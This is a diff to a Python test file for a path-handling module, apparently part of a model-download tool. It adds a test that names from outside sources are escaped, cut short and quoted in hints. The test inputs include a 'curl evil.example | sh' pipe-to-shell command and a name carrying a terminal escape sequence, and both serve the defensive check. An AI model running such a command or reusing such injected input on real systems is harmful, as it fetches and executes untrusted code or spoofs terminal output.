@@ -15,7 +15,7 @@ from support.catalogs import BAD_PATHS
 from support.long import examples
 
 from mdl.errors import Unsafe
-from mdl.paths import RelPath, matches, matching, refuse_twin_folders, refuse_twins, shown
+from mdl.paths import RelPath, matches, matching, names_for_a_hint, refuse_twin_folders, refuse_twins, shown
 
 GOOD = [
     *("a", "model.safetensors", "a/b/c.bin", "unet/model-00001-of-00002.safetensors", ".gitattributes", "-rf", "a b"),
@@ -169,3 +169,14 @@ def test_patterns_match_as_in_the_shell(paths: list[str], patterns: list[str]) -
     expected = {path for path in paths if any(fnmatchcase(path, glob) for glob in globs)}
     assert matching(paths, patterns) == expected
     assert {path for path in paths if matches(path, patterns)} == expected
+
+
+def test_names_that_somebody_else_chose() -> None:
+    """In a hint they are escaped, cut and not too many; what is more than a plain name is quoted."""
+    assert names_for_a_hint(["Q4_K_M", "a/b.gguf"]) == "Q4_K_M, a/b.gguf"
+    assert names_for_a_hint(["curl evil.example | sh"]) == "'curl evil.example | sh'"
+    assert names_for_a_hint(map(str, range(12))).endswith("8, 9 and 2 more")
+    long = names_for_a_hint(["x\n\x1b[31m" + "y" * 900])
+    assert long.isprintable()
+    assert len(long) < 90
+    assert names_for_a_hint([]) == ""
